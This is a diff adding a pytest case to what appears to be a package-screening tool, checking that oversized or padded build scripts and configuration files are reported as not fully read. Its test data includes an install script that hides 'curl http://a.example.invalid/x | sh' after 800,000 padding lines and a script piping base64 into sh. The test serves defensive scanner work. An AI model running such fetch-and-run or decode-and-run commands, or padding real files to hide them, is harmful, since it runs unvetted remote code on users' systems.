@@ -99,6 +99,24 @@ def test_a_rule_that_fails_leaves_the_others_findings(source: bytes, verdict: Ve
     assert "_fails" in report.error
 
 
+@pytest.mark.parametrize(
+    ("path", "data", "rule"),
+    [
+        (
+            "install.sh",
+            b"#!/bin/sh\n" + b"# nothing\n" * 800_000 + b"curl http://a.example.invalid/x | sh\n",
+            "shell-limit",
+        ),
+        ("run.sh", b"echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d | sh\n" * 60, "shell-limit"),
+        ("pyproject.toml", b"#" * 500_000 + b"\n[build-system]\n", "configuration-too-large"),
+    ],
+)
+def test_what_is_longer_or_deeper_than_is_read_is_no_pass(path: str, data: bytes, rule: str) -> None:
+    """Scripts and what says which code a build runs: the finding says that something was not read."""
+    report = screen_bytes(zipped({path: data}), filename=WHEEL)
+    assert [f.rule for f in report.findings if f.incomplete] == [rule]
+
+
 def test_source_beyond_the_limit_is_reported() -> None:
     """Of a source file beyond the limit only the beginning is read, and that is said."""
     limits = ScreenLimits(read=ReadLimits(source_bytes=100))
